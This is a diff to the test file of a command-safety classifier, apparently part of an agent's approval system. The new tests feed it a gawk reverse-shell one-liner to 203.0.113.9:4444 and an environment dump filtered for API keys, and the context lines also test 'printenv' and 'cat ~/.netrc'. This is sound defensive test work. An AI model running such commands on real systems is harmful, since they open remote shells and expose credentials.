@@ -154,6 +154,16 @@ describe('approvals: the classifier judges the parsed command', () => {
     expect((await decideCommand('printenv', { threshold: 'medium' })).allowed).toBe(false);
   });
 
+  it('the environment filtered for a harmless name is no dump; filtered for a secret still is', async () => {
+    expect((await decideCommand('env | grep -i proxy', { threshold: 'medium' })).allowed).toBe(true);
+    expect((await decideCommand('env | grep -i api_key', { threshold: 'medium' })).allowed).toBe(false);
+  });
+
+  it('gawk network sockets count as reverse shells', () => {
+    const script = `awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while (1) { s |& getline c; c |& getline } }'`;
+    expect(classifyCommand(script).map((f) => f.rule)).toContain('gawk-inet');
+  });
+
   it('names categories for what it finds', () => {
     const categories = (c: string) => classifyCommand(c).map((f) => f.category);
     expect(categories('cat ~/.netrc')).toContain('credentials');
